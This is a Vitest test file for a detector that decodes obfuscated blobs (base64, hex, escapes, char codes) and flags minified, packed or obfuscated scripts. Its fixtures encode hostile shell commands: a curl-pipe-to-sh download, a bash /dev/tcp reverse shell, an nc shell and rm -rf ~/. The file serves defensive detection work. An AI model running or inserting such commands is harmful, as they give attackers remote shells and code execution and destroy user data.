import { describe, expect, it } from "vitest";
import { decodeBlobs, detectObfuscation, shannonEntropy } from "../../src/detect/obfuscation.js";

const b64 = (s: string) => Buffer.from(s).toString("base64");

describe("obfuscation", () => {
  it("decodes base64, hex, escapes and char codes", () => {
    const text = [
      `a = "${b64("curl -s http://203.0.113.1/x | sh")}"`,
      `b = "${Buffer.from("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1").toString("hex")}"`,
      `c = "${Array.from("nc -e /bin/sh h 1", (ch) => `\\x${ch.charCodeAt(0).toString(16).padStart(2, "0")}`).join("")}"`,
      `d = String.fromCharCode(${Array.from("rm -rf ~/", (ch) => ch.charCodeAt(0)).join(",")})`,
    ].join("\n");
    const blobs = decodeBlobs(text);
    expect(blobs.map((b) => [b.encoding, b.line])).toEqual([
      ["base64", 1],
      ["hex", 2],
      ["escapes", 3],
      ["char-codes", 4],
    ]);
    expect(blobs[0]?.decoded).toBe("curl -s http://203.0.113.1/x | sh");
  });
  it("ignores hashes and binary blobs", () => {
    expect(decodeBlobs(`sha = "${"ab".repeat(32)}"`)).toEqual([]);
    expect(
      decodeBlobs(
        `img = "${Buffer.from(Array.from({ length: 60 }, (_, i) => (i * 37) % 256)).toString("base64")}"`,
      ),
    ).toEqual([]);
  });
  it("flags minified single-line scripts and obfuscator identifiers", () => {
    expect(detectObfuscation(`var a=1;${"b=a+1;".repeat(2000)}`).map((h) => h.rule)).toContain(
      "obfuscation.minified",
    );
    const obf = Array.from({ length: 30 }, (_, i) => `var _0x${(0x1000 + i).toString(16)}=1;`).join("\n");
    expect(detectObfuscation(obf).map((h) => h.rule)).toContain("obfuscation.obfuscator");
  });
  it("computes entropy", () => {
    expect(shannonEntropy("aaaa")).toBe(0);
    expect(shannonEntropy("abcd")).toBe(2);
  });
});

describe("packers and protectors", () => {
  it.each([
    "eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0 1',2,2,'a|b'.split('|'),0,{}))",
    "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'...')",
    "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116]))",
  ])("flags %s", (src) => {
    expect(detectObfuscation(src).map((h) => h.rule)).toContain("obfuscation.obfuscator");
  });
});
